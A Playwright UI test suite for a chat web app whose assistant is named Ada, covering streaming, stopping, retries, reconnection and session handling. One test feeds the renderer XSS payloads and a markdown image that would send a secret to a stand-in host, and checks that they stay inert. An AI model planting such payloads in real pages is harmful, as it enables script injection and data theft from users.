"""The conversation: streamed, stopped, failed, lost on the way, kept."""

from __future__ import annotations

from playwright.async_api import expect

from moltbot_protocol.errors import ErrorCode, ErrorShape, unavailable
from moltbot_protocol.hello import MAIN_SESSION
from tests.fakes.router_ui import FakeRouter
from tests.fakes.router_ui_chat import still_waking
from tests.ui.conftest import Visit, Visitor, enter, say

ANSWER = """A plan, with **what matters** first:

1. Train
2. Venue

```python
def wake(name: str) -> None:
    print(name)
```

| Day | What |
|---|---|
| Mon | Train |
"""


async def test_answer_streams_in_as_markdown(router: FakeRouter, visitor: Visitor) -> None:
    await enter(router, visitor)
    await visitor.page.get_by_label("Message to Ada").fill("Plan my trip")
    await visitor.page.get_by_label("Message to Ada").press("Enter")
    turn = await router.gateway.until_turn()
    running = visitor.page.get_by_test_id("running")
    await expect(running).to_contain_text("Thinking…")
    await router.gateway.delta(turn, "A plan, with **what")
    await expect(running).to_contain_text("A plan, with **what")
    await router.gateway.tool(turn, "web_fetch")
    await expect(running).to_contain_text("Using web_fetch…")
    await router.gateway.delta(turn, "A plan, with **what matters** first:")
    await expect(running.locator("strong")).to_have_text("what matters")
    await visitor.accessible("streaming")
    await router.gateway.final(turn, ANSWER)
    answer = visitor.page.get_by_role("article", name="Ada")
    await expect(answer.locator("table td").first).to_have_text("Mon")
    await expect(running).to_have_count(0)
    await expect(visitor.page.locator("[aria-live=polite]").filter(has_text="Ada: A plan")).to_have_count(1)
    await visitor.accessible("answer")


async def test_shift_enter_is_a_new_line(router: FakeRouter, visitor: Visitor) -> None:
    await enter(router, visitor)
    box = visitor.page.get_by_label("Message to Ada")
    await box.press_sequentially("one")
    await box.press("Shift+Enter")
    await box.press_sequentially("two")
    await box.press("Enter")
    assert (await router.gateway.until_turn()).message == "one\ntwo"
    await expect(box).to_have_value("")


async def test_code_is_copied_as_it_is(router: FakeRouter, visitor: Visitor) -> None:
    await enter(router, visitor)
    await visitor.context.grant_permissions(["clipboard-read", "clipboard-write"])
    await say(visitor, "code")
    await router.gateway.final(await router.gateway.until_turn(), ANSWER)
    await visitor.page.get_by_role("button", name="Copy", exact=True).click()
    await expect(visitor.page.get_by_role("button", name="Copied")).to_be_visible()
    assert await visitor.page.evaluate("navigator.clipboard.readText()") == "def wake(name: str) -> None:\n    print(name)"


async def test_what_the_model_writes_stays_text(router: FakeRouter, visitor: Visitor) -> None:
    """Rule 12: no element of the model's own, nothing loaded from elsewhere, no link that runs something."""
    await enter(router, visitor)
    requested: list[str] = []
    visitor.page.on("request", lambda request: requested.append(request.url))
    await say(visitor, "attack")
    await router.gateway.final(
        await router.gateway.until_turn(),
        '<img src=x onerror="window.hit=1"><script>window.hit=1</script> ![picture](http://ada.example/leak?q=secret) '
        "[run](javascript:window.hit=1) [data](data:text/html,x) [fine](https://example.org/a?b=1&c=2)\n\n<b>bold</b>\n\n"
        '```"><img src=x onerror=window.hit=1>\ncode\n```\n',
    )
    answer = visitor.page.get_by_role("article", name="Ada")
    await expect(answer).to_contain_text("<b>bold</b>")
    assert await answer.locator("img, script, b, iframe, style").count() == 0
    assert await answer.locator("a").evaluate_all("all => all.map(a => a.getAttribute('href'))") == [
        "http://ada.example/leak?q=secret",
        "https://example.org/a?b=1&c=2",
    ]
    assert await visitor.page.evaluate("window.hit") is None
    assert [one for one in requested if not one.startswith(router.url)] == []


async def test_stop_keeps_what_was_said_so_far(router: FakeRouter, visitor: Visitor) -> None:
    await enter(router, visitor)
    await say(visitor, "Tell me a long story")
    turn = await router.gateway.until_turn()
    await router.gateway.delta(turn, "Once upon a time")
    await expect(visitor.log.get_by_text("Once upon a time")).to_be_visible()
    await visitor.page.get_by_role("button", name="Stop the answer").click()
    await router.gateway.until_aborted()
    answer = visitor.page.get_by_role("article", name="Ada")
    await expect(answer).to_contain_text("Once upon a time")
    await expect(answer).to_contain_text("Stopped")
    assert router.gateway.aborts == [turn.run]


async def test_failed_turn_says_why_and_can_be_retried(router: FakeRouter, visitor: Visitor) -> None:
    await enter(router, visitor)
    await say(visitor, "And the weather?")
    await router.gateway.fail(await router.gateway.until_turn(), "The model's key is not accepted: 401 from the provider.")
    error = visitor.page.get_by_test_id("model-error")
    await expect(error).to_contain_text("The model's key is not accepted")
    await visitor.accessible("model-error")
    await error.get_by_role("button", name="Retry").click()
    second = await router.gateway.until_turn(2)
    assert second.message == "And the weather?"
    await router.gateway.final(second, "Sunny.")
    await expect(visitor.log.get_by_text("Sunny.")).to_be_visible()


async def test_failure_without_words_is_told_by_its_kind(router: FakeRouter, visitor: Visitor) -> None:
    await enter(router, visitor)
    await say(visitor, "hi")
    await router.gateway.fail(await router.gateway.until_turn(), None, "rate_limit")
    await expect(visitor.page.get_by_test_id("model-error")).to_contain_text("limiting requests")


async def test_failed_turn_is_in_the_history_too(router: FakeRouter, visitor: Visitor) -> None:
    await enter(router, visitor)
    await say(visitor, "hi")
    await router.gateway.fail(await router.gateway.until_turn(), "overloaded")
    await visitor.page.reload()
    await expect(visitor.page.get_by_test_id("model-error")).to_contain_text("overloaded")


async def test_message_lost_on_the_way_goes_again_with_the_same_key(router: FakeRouter, visitor: Visitor) -> None:
    """Rule 4: the gateway stored the key before it answered, so the message is there once."""
    await enter(router, visitor)
    router.gateway.swallow = True
    await say(visitor, "only once")
    await router.gateway.until_sends(2)
    first, second = router.gateway.sends
    assert first["idempotencyKey"] == second["idempotencyKey"]
    assert len(router.gateway.turns) == 1
    await expect(visitor.page.get_by_role("article", name="You")).to_have_count(1)
    await router.gateway.final(router.gateway.turns[0], "Once it is.")
    await expect(visitor.log.get_by_text("Once it is.")).to_be_visible()


async def test_lost_connection_is_told_and_mends_itself(router: FakeRouter, visitor: Visitor) -> None:
    await enter(router, visitor)
    await say(visitor, "begin")
    turn = await router.gateway.until_turn()
    await router.gateway.delta(turn, "Half of")
    await expect(visitor.log.get_by_text("Half of")).to_be_visible()
    await visitor.context.set_offline(True)
    await router.gateway.drop_all()
    await expect(visitor.page.get_by_test_id("banner")).to_contain_text("Connection lost.")
    visitor.expected += ["ERR_INTERNET_DISCONNECTED", "WebSocket connection"]
    await visitor.page.get_by_label("Message to Ada").fill("while away")
    await visitor.page.get_by_role("button", name="Send").click()
    await visitor.accessible("offline")
    # The turn ends while nobody listens: the page asks for it by its key and reads the history.
    await router.gateway.final(turn, "Half of it, and the rest.")
    await visitor.context.set_offline(False)
    await expect(visitor.log.get_by_text("Half of it, and the rest.")).to_be_visible()
    second = await router.gateway.until_turn(2)
    assert second.message == "while away"
    await expect(visitor.page.get_by_test_id("banner")).to_have_count(0)


async def test_message_that_comes_meanwhile_waits_at_the_gateway(router: FakeRouter, visitor: Visitor) -> None:
    await enter(router, visitor)
    await say(visitor, "first")
    turn = await router.gateway.until_turn()
    await say(visitor, "second")
    await expect(visitor.page.get_by_text("Next in line")).to_be_visible()
    second = await router.gateway.until_turn(2)
    await router.gateway.final(turn, "done")
    await router.gateway.final(second, "done as well")
    await expect(visitor.log.get_by_text("done as well")).to_be_visible()
    await expect(visitor.page.get_by_text("Next in line")).to_have_count(0)
    await expect(visitor.page.get_by_role("article", name="You")).to_have_count(2)


async def test_not_now_is_sent_again_by_itself(router: FakeRouter, visitor: Visitor) -> None:
    """Rule 4: a held message that came too early is kept, with its key."""
    await enter(router, visitor)
    router.gateway.refusals = [
        still_waking(),
        unavailable("going to sleep; send it again", retry_after_ms=50, details={"notAccepted": "q1"}),
    ]
    await say(visitor, "patience")
    await router.gateway.until_turn()
    assert len({str(one["idempotencyKey"]) for one in router.gateway.sends}) == 1
    assert len(router.gateway.sends) == 3


async def test_refused_message_stays_with_its_reason(router: FakeRouter, visitor: Visitor) -> None:
    await enter(router, visitor)
    router.gateway.refusals = [ErrorShape(ErrorCode.INVALID_REQUEST, "message too long")]
    await say(visitor, "too long")
    await expect(visitor.log.get_by_text("Not sent: message too long")).to_be_visible()
    await visitor.accessible("not-sent")
    await visitor.page.get_by_role("button", name="Retry").click()
    assert (await router.gateway.until_turn()).message == "too long"


async def test_conversation_is_there_after_a_reload(router: FakeRouter, visitor: Visitor) -> None:
    await enter(router, visitor)
    await say(visitor, "Remember the blue door")
    await router.gateway.final(await router.gateway.until_turn(), "I shall.")
    await visitor.page.reload()
    await expect(visitor.page.get_by_text("Remember the blue door")).to_have_count(1)
    await expect(visitor.log.get_by_text("I shall.")).to_have_count(1)


async def test_what_another_browser_says_shows_here_too(router: FakeRouter, visit: Visit) -> None:
    one, other = await visit(), await visit()
    await enter(router, one)
    await enter(router, other)
    await say(one, "from the desk")
    turn = await router.gateway.until_turn()
    await router.gateway.final(turn, "seen by both")
    await expect(other.log.get_by_text("seen by both")).to_have_count(1)
    await expect(other.log.get_by_text("from the desk")).to_have_count(1)


async def test_conversations_are_made_switched_renamed_and_deleted(router: FakeRouter, visitor: Visitor) -> None:
    await enter(router, visitor)
    await visitor.page.get_by_role("button", name="New chat").first.click()
    await expect(visitor.page.get_by_role("heading", level=1)).to_have_text("New chat")
    await say(visitor, "What shall we cook on Sunday?")
    turn = await router.gateway.until_turn()
    assert turn.session != MAIN_SESSION
    await router.gateway.final(turn, "Soup.")
    chats = visitor.page.get_by_role("navigation", name="Chats")
    await expect(chats.get_by_text("What shall we cook on Sunday?")).to_be_visible()
    await visitor.accessible("sessions")
    await visitor.page.get_by_role("button", name="Actions for What shall").click()
    await visitor.accessible("session-menu")
    await visitor.page.get_by_role("menuitem", name="Rename").click()
    await visitor.page.get_by_label("Name of the chat").fill("Sunday soup")
    await visitor.accessible("rename")
    await visitor.page.get_by_role("button", name="Rename", exact=True).click()
    await expect(chats.get_by_text("Sunday soup")).to_be_visible()
    await chats.get_by_text("Main conversation").click()
    await expect(visitor.log.get_by_text("Soup.", exact=True)).to_have_count(0)
    await visitor.page.go_back()
    await expect(visitor.log.get_by_text("Soup.", exact=True)).to_be_visible()
    await visitor.page.get_by_role("button", name="Actions for Sunday soup").click()
    await visitor.page.get_by_role("menuitem", name="Delete").click()
    await visitor.page.get_by_role("button", name="Delete", exact=True).click()
    await expect(chats.get_by_text("Sunday soup")).to_have_count(0)
    await expect(visitor.page.get_by_role("heading", level=1)).to_have_text("Main conversation")


async def test_what_the_gateway_does_not_serve_is_not_offered(router: FakeRouter, visitor: Visitor) -> None:
    router.gateway.optional_methods = False
    await enter(router, visitor)
    await say(visitor, "hi")
    await router.gateway.final(await router.gateway.until_turn(), "hello")
    await expect(visitor.log.get_by_text("hello", exact=True)).to_be_visible()
    await expect(visitor.page.get_by_role("button", name="Actions for")).to_have_count(0)


async def test_missing_model_is_told(router: FakeRouter, visitor: Visitor) -> None:
    router.gateway.model_configured = False
    await enter(router, visitor)
    await expect(visitor.page.get_by_text("No model is set up")).to_be_visible()
    await visitor.accessible("no-model")


async def test_draft_outlives_a_reload(router: FakeRouter, visitor: Visitor) -> None:
    await enter(router, visitor)
    await visitor.page.get_by_label("Message to Ada").fill("half a thou")
    await visitor.page.reload()
    await expect(visitor.page.get_by_label("Message to Ada")).to_have_value("half a thou")


async def test_phone_has_everything_behind_one_button(router: FakeRouter, visit: Visit) -> None:
    visitor = await visit(phone=True)
    await enter(router, visitor)
    await say(visitor, "hi")
    await router.gateway.final(await router.gateway.until_turn(), ANSWER)
    await expect(visitor.page.get_by_role("article", name="Ada")).to_be_visible()
    assert await visitor.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    await visitor.accessible("chat-phone")
    await visitor.page.get_by_role("button", name="Show the list of chats").click()
    await expect(visitor.page.get_by_role("navigation", name="Chats")).to_be_visible()
    await visitor.accessible("side-phone")
    await visitor.page.keyboard.press("Escape")
    await expect(visitor.page.get_by_role("navigation", name="Chats")).to_be_hidden()
    await expect(visitor.page.get_by_role("button", name="Show the list of chats")).to_be_focused()


async def test_colours_are_chosen_and_kept(router: FakeRouter, visitor: Visitor) -> None:
    await enter(router, visitor)
    theme = visitor.page.get_by_role("button", name="Colours:")
    await theme.click()
    await theme.click()
    dark = await visitor.page.evaluate("getComputedStyle(document.body).backgroundColor")
    await visitor.page.reload()
    await expect(theme).to_have_accessible_name("Colours: dark. Change to as the system")
    assert await visitor.page.evaluate("getComputedStyle(document.body).backgroundColor") == dark
    await theme.click()
    assert await visitor.page.evaluate("getComputedStyle(document.body).backgroundColor") != dark
